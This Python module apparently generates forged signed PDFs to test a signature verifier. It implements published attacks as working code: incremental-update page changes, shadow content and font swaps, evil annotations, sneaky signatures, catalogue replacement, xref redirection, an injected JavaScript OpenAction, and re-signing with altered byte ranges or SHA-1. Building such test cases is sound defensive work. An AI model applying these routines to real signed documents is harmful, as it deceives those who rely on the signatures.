"""What forgers do to a PDF after it was signed: each function takes a signed file and gives the forged one.

Names follow the public literature (Universal Signature Forgery, Incremental Saving Attack, Signature Wrapping, Shadow
Attacks, Evil Annotation, Sneaky Signature); the files are made here, by our own means.
"""

import hashlib
import re
import zlib
from collections.abc import Callable

from lienthong.ground.signatures import cms
from lienthong.ground.signatures.pdf import appearance, font
from lienthong.ground.signatures.pdf.places import NUMBER, PERSON, SEAL
from lienthong.ground.signatures.pdf.update import (
    Entries,
    Update,
    entries,
    items,
    reference,
    reference_number,
    stream,
    written,
)
from lienthong.ground.signatures.signer import Signer

COVER = b"1 1 1 rg 0 0 600 400 re f 0 g"


class Forgery(Update):
    """An incremental update with a forger's handholds."""

    def root(self) -> Entries:
        return self.read(self.root_number)

    def page_tree(self) -> tuple[int, Entries]:
        number = reference_number(self.root()[b"/Pages"])
        return number, self.read(number)

    def page(self, index: int = 0) -> tuple[int, Entries]:
        number = reference_number(items(self.page_tree()[1][b"/Kids"])[index])
        return number, self.read(number)

    def form(self) -> tuple[int, Entries]:
        number = reference_number(self.root()[b"/AcroForm"])
        return number, self.read(number)

    def field(self, name: str) -> tuple[int, Entries]:
        for value in items(self.form()[1][b"/Fields"]):
            number = reference_number(value)
            if self.read(number)[b"/T"] == b"(" + name.encode() + b")":
                return number, self.read(number)
        raise AssertionError(name)

    def done(self) -> bytes:
        out = bytes(self.finish())
        assert out != self.data
        return out


def _contents(page: Entries) -> list[bytes]:
    return items(page[b"/Contents"]) if page[b"/Contents"].startswith(b"[") else [page[b"/Contents"]]


def page_added(data: bytes) -> bytes:
    forgery = Forgery(data)
    number, tree = forgery.page_tree()
    _, model = forgery.page()
    content = forgery.add(stream({}, COVER))
    kept = {key: model[key] for key in (b"/Type", b"/MediaBox", b"/Parent") if key in model}
    added = forgery.add(written(kept | {b"/Contents": reference(content), b"/Resources": b"<< >>"}))
    tree[b"/Kids"] = b"[" + b" ".join([*items(tree[b"/Kids"]), reference(added)]) + b"]"
    tree[b"/Count"] = b"%d" % (int(tree[b"/Count"]) + 1)
    forgery.replace(number, tree)
    return forgery.done()


def page_removed(data: bytes) -> bytes:
    forgery = Forgery(data)
    number, tree = forgery.page_tree()
    tree[b"/Kids"] = b"[" + items(tree[b"/Kids"])[-1] + b"]"
    tree[b"/Count"] = b"1"
    forgery.replace(number, tree)
    return forgery.done()


def pages_exchanged(data: bytes) -> bytes:
    forgery = Forgery(data)
    number, tree = forgery.page_tree()
    tree[b"/Kids"] = b"[" + b" ".join(reversed(items(tree[b"/Kids"]))) + b"]"
    forgery.replace(number, tree)
    return forgery.done()


def visible_change(data: bytes) -> bytes:
    forgery = Forgery(data)
    number, page = forgery.page()
    over = forgery.add(stream({}, COVER))
    page[b"/Contents"] = b"[" + b" ".join([*_contents(page), reference(over)]) + b"]"
    forgery.replace(number, page)
    return forgery.done()


def stream_replaced(data: bytes) -> bytes:
    """Shadow attack "hide and replace": the page stays, the content it points to is another one now."""
    forgery = Forgery(data)
    _, page = forgery.page()
    forgery._objects[reference_number(_contents(page)[0])] = stream({}, COVER)
    return forgery.done()


def box_changed(data: bytes) -> bytes:
    """Half of the page is cropped away, by an entry that pages inherit."""
    forgery = Forgery(data)
    number, page = forgery.page()
    page[b"/CropBox"] = b"[0 0 595 300]"
    forgery.replace(number, page)
    return forgery.done()


def annotation_over_text(data: bytes) -> bytes:
    """Evil annotation: a white sheet with a text of the forger's own."""
    forgery = Forgery(data)
    number, page = forgery.page()
    look = forgery.add(stream({b"/Type": b"/XObject", b"/Subtype": b"/Form", b"/BBox": b"[0 0 400 200]"}, COVER))
    sheet = {b"/Type": b"/Annot", b"/Subtype": b"/FreeText", b"/Rect": b"[80 500 480 700]", b"/F": b"4"}
    sheet |= {b"/Contents": b"(Sua)", b"/DA": b"(/Helv 12 Tf)", b"/AP": written({b"/N": reference(look)})}
    page[b"/Annots"] = (
        b"[" + b" ".join([*items(page.get(b"/Annots", b"[]")), reference(forgery.add(written(sheet)))]) + b"]"
    )
    forgery.replace(number, page)
    return forgery.done()


def field_hidden(data: bytes) -> bytes:
    """The leader's signature is taken off its page; the form still knows it."""
    forgery = Forgery(data)
    number, page = forgery.page(1)
    page[b"/Annots"] = b"[" + items(page[b"/Annots"])[-1] + b"]"
    forgery.replace(number, page)
    return forgery.done()


def number_changed(data: bytes, font_data: bytes, text: str = "99/BTC-VP", shown: str = "99/BTC-VP") -> bytes:
    """The number field gets another value; `shown` is what one sees."""
    forgery = Forgery(data)
    number, field = forgery.field(NUMBER)
    fonts = entries(entries(forgery.form()[1][b"/DR"])[b"/Font"])
    resource = field[b"/DA"].strip(b"()/").split()[0].decode()
    setting = appearance.Setting(font.cut(font_data), resource, fonts[b"/" + resource.encode()], 13)
    look = forgery.add(appearance.text_form([shown], setting, appearance.Room(100, 18)))
    field |= {b"/V": b"(" + text.encode() + b")", b"/Ff": b"1", b"/AP": written({b"/N": reference(look)})}
    forgery.replace(number, field)
    return forgery.done()


def font_of_form_replaced(data: bytes) -> bytes:
    """Shadow attack "replace": the letters of the filled fields get other shapes."""
    forgery = Forgery(data)
    fonts = entries(entries(forgery.form()[1][b"/DR"])[b"/Font"])
    whole = forgery.read(reference_number(next(iter(fonts.values()))))
    below = forgery.read(reference_number(items(whole[b"/DescendantFonts"])[0]))
    descriptor = forgery.read(reference_number(below[b"/FontDescriptor"]))
    program = stream({b"/Filter": b"/FlateDecode"}, zlib.compress(b"another program"))
    forgery._objects[reference_number(descriptor[b"/FontFile2"])] = program
    return forgery.done()


def seal_removed(data: bytes) -> bytes:
    """The seal's field leaves form and page."""
    forgery = Forgery(data)
    number, form = forgery.form()
    seal, _ = forgery.field(SEAL)
    form[b"/Fields"] = b"[" + b" ".join(one for one in items(form[b"/Fields"]) if one != reference(seal)) + b"]"
    forgery.replace(number, form)
    return forgery.done()


def seal_emptied(data: bytes) -> bytes:
    """The seal's field stays, its value is gone."""
    forgery = Forgery(data)
    number, field = forgery.field(SEAL)
    del field[b"/V"]
    forgery.replace(number, field)
    return forgery.done()


def signatures_swapped(data: bytes) -> bytes:
    """Each of the two fields claims the other's signature."""
    forgery = Forgery(data)
    (person, first), (seal, second) = forgery.field(PERSON), forgery.field(SEAL)
    first[b"/V"], second[b"/V"] = second[b"/V"], first[b"/V"]
    forgery.replace(person, first)
    forgery.replace(seal, second)
    return forgery.done()


def signature_used_twice(data: bytes) -> bytes:
    """The leader's field shows the organisation's signature too."""
    forgery = Forgery(data)
    (person, first), (_, second) = forgery.field(PERSON), forgery.field(SEAL)
    first[b"/V"] = second[b"/V"]
    forgery.replace(person, first)
    return forgery.done()


def sneaky_signature(data: bytes) -> bytes:
    """A new visible signature field whose picture covers the text."""
    forgery = Forgery(data)
    number, page = forgery.page()
    look = forgery.add(stream({b"/Type": b"/XObject", b"/Subtype": b"/Form", b"/BBox": b"[0 0 400 200]"}, COVER))
    sheet = {b"/Type": b"/Annot", b"/Subtype": b"/Widget", b"/FT": b"/Sig", b"/T": b"(them)", b"/F": b"132"}
    sheet |= {b"/Rect": b"[80 500 480 700]", b"/P": reference(number), b"/AP": written({b"/N": reference(look)})}
    added = reference(forgery.add(written(sheet)))
    page[b"/Annots"] = b"[" + b" ".join([*items(page.get(b"/Annots", b"[]")), added]) + b"]"
    forgery.replace(number, page)
    form_number, form = forgery.form()
    form[b"/Fields"] = b"[" + b" ".join([*items(form[b"/Fields"]), added]) + b"]"
    forgery.replace(form_number, form)
    return forgery.done()


def catalogue_replaced(data: bytes) -> bytes:
    """A whole other document under a new root."""
    forgery = Forgery(data)
    root = forgery.root()
    content = forgery.add(stream({}, COVER))
    tree = forgery.add(b"null")
    page = {b"/Type": b"/Page", b"/Parent": reference(tree), b"/MediaBox": b"[0 0 595 842]", b"/Resources": b"<< >>"}
    only = forgery.add(written(page | {b"/Contents": reference(content)}))
    forgery._objects[tree] = written({b"/Type": b"/Pages", b"/Kids": b"[" + reference(only) + b"]", b"/Count": b"1"})
    root[b"/Pages"] = reference(tree)
    forgery.trailer[b"/Root"] = reference(forgery.add(written(root)))
    return forgery.done()


def script_added(data: bytes) -> bytes:
    forgery = Forgery(data)
    root = forgery.root() | {b"/OpenAction": b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"}
    forgery.replace(forgery.root_number, root)
    return forgery.done()


def title_changed(data: bytes) -> bytes:
    forgery = Forgery(data)
    forgery.trailer[b"/Info"] = reference(forgery.add(b"<< /Title (Mot van ban khac) >>"))
    return forgery.done()


def table_redirected(data: bytes, evil: bytes) -> bytes:
    """Only a cross-reference table is appended: an object number now leads to `evil`, inside the signed bytes."""
    place = data.index(evil)
    number = int(evil.split()[0])
    start = len(data)
    last = re.findall(rb"startxref\s+(\d+)", data)[-1]
    trailer = {b"/Size": Update(data).trailer[b"/Size"], b"/Root": Update(data).trailer[b"/Root"], b"/Prev": last}
    table = b"xref\n%d 1\n%010d 00000 n \n" % (number, place)
    return data + table + b"trailer\n" + written(trailer) + b"\nstartxref\n%d\n%%%%EOF\n" % start


def shadowed(prepared: bytes) -> tuple[bytes, bytes]:
    """A file with an evil twin of its page content hidden in it before signing, and how that twin begins."""
    hiding = Forgery(prepared)
    number = reference_number(_contents(hiding.page()[1])[0])
    body = stream({}, COVER)
    hiding._objects[number] = body
    evil = bytes(hiding.finish())
    mended = Forgery(evil)
    mended._objects[number] = _object_as_written(prepared, number)
    return bytes(mended.finish()), b"%d 0 obj\n" % number + body[:20]


def _object_as_written(data: bytes, number: int) -> bytes:
    start = re.search(rb"(?<!\d)%d 0 obj\s" % number, data).end()  # type: ignore[union-attr]
    return data[start : data.index(b"endobj", start)]


def every_attack(font_data: bytes) -> dict[str, Callable[[bytes], bytes]]:
    """Attacks on a sealed document, by name."""
    return {
        "page-added": page_added,
        "page-removed": page_removed,
        "pages-exchanged": pages_exchanged,
        "visible-change": visible_change,
        "stream-replaced": stream_replaced,
        "box-changed": box_changed,
        "annotation-over-text": annotation_over_text,
        "field-hidden": field_hidden,
        "number-changed": lambda data: number_changed(data, font_data),
        "number-shown-differently": lambda data: number_changed(data, font_data, text="15/BTC-VP"),
        "font-of-form-replaced": font_of_form_replaced,
        "seal-removed": seal_removed,
        "seal-emptied": seal_emptied,
        "signatures-swapped": signatures_swapped,
        "signature-used-twice": signature_used_twice,
        "sneaky-signature": sneaky_signature,
        "catalogue-replaced": catalogue_replaced,
        "script-added": script_added,
        "title-changed": title_changed,
    }


# -- signatures that are wrong from the start -------------------------------------------------------------------------
def resigned(
    data: bytes, signer: Signer, make: Callable[[bytes], bytes], *, ranges: tuple[int, ...] | None = None
) -> bytes:
    """The last signature made anew: `make` turns the digest into a CMS; `ranges` says what is covered instead."""
    found = list(re.finditer(rb"/ByteRange (\[[^]]*\])", data))[-1]
    own = tuple(int(number) for number in found[1].strip(b"[]").split())
    covered = ranges or own
    out = bytearray(data)
    out[found.start(1) : found.end(1)] = (b"[%d %d %d %d" % covered).ljust(len(found[1]) - 1) + b"]"
    first, length, second, rest = covered
    digest = hashlib.sha256(bytes(out[first : first + length]) + bytes(out[second : second + rest])).digest()
    value = make(digest).hex().upper().encode()
    room = own[2] - own[1] - 2
    assert len(value) <= room
    out[own[1] + 1 : own[2] - 1] = value.ljust(room, b"0")
    return bytes(out)


def own_ranges(data: bytes) -> tuple[int, ...]:
    found = list(re.finditer(rb"/ByteRange \[([^]]*)\]", data))[-1]
    return tuple(int(number) for number in found[1].split())


def two_signers(signer: Signer) -> Callable[[bytes], bytes]:
    """A CMS whose signer stands in it twice."""
    from asn1crypto import cms as asn1

    def make(digest: bytes) -> bytes:
        whole = asn1.ContentInfo.load(cms.detached(signer, digest))
        infos = whole["content"]["signer_infos"]
        whole["content"]["signer_infos"] = asn1.SignerInfos([infos[0], infos[0].copy()])
        return bytes(whole.dump(force=True))

    return make


def with_sha1(signer: Signer, data_digest: Callable[[], bytes]) -> Callable[[bytes], bytes]:
    """A CMS over the SHA-1 of the same bytes, as old programs made them."""
    from asn1crypto import algos, core
    from asn1crypto import cms as asn1
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import ec

    def make(digest: bytes) -> bytes:
        whole = asn1.ContentInfo.load(cms.detached(signer, digest))
        info = whole["content"]["signer_infos"][0]
        sha1 = algos.DigestAlgorithm({"algorithm": "sha1"})
        whole["content"]["digest_algorithms"] = asn1.DigestAlgorithms([sha1])
        info["digest_algorithm"] = sha1
        kept = [one for one in info["signed_attrs"] if one["type"].native != "message_digest"]
        named = asn1.CMSAttribute({"type": "message_digest", "values": [core.OctetString(data_digest())]})
        info["signed_attrs"] = asn1.CMSAttributes([*kept, named])
        info["signature_algorithm"] = algos.SignedDigestAlgorithm({"algorithm": "sha1_ecdsa"})
        signed = info["signed_attrs"].untag().dump(force=True)
        info["signature"] = signer.key._private_key.sign(signed, ec.ECDSA(hashes.SHA1()))
        return bytes(whole.dump(force=True))

    return make
